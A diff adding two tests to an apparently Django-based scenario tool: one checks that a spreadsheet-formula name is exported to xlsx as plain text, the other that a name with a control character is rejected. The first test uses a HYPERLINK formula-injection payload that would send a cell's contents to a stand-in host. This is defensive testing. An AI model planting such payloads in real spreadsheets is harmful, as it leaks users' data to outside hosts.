@@ -240,6 +240,23 @@ def test_xlsx_holds_inputs_and_figures(viewer_client):
     assert workbook["Beräkning"].max_row > 10
 
 
+def test_xlsx_writes_a_formula_like_name_as_text(viewer_client, users):
+    saved = services.saved_scenario_create(actor=users["viewer"], name='=HYPERLINK("http://x?"&A2,"Click")', base_year=2025, scenario=year_scenario())
+    workbook = load_workbook(io.BytesIO(viewer_client.get(f"/allocations/scenarios/{saved.pk}/scenario.xlsx").content))
+    name = next(row[1] for row in workbook["Indata"].iter_rows(min_row=2) if row[0].value == "Namn")
+    assert (name.value, name.data_type) == ('=HYPERLINK("http://x?"&A2,"Click")', "s")
+    assert all(cell.data_type != "f" for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row)
+
+
+def test_saving_a_name_with_a_control_character_names_the_field(viewer_client):
+    data = form_data(start(viewer_client))
+    data["name"] = ["Fifty\u000bmillion"]
+    response = viewer_client.post("/allocations/scenarios/save/", data, HTTP_ACCEPT_LANGUAGE="en")
+    assert response.status_code == 400
+    assert response.context["save_form"].errors["name"] == ["Name contains a control character (U+000B): remove it (it usually comes from pasting)."]
+    assert not SavedScenario.objects.exists()
+
+
 def test_the_list_page_shows_mine_and_others_in_constant_queries(viewer_client, users, django_assert_max_num_queries):
     services.saved_scenario_create(actor=users["viewer"], name="Mine", base_year=2025, scenario=year_scenario())
     services.saved_scenario_create(actor=users["vr"], name="Theirs", base_year=2025, scenario=year_scenario())
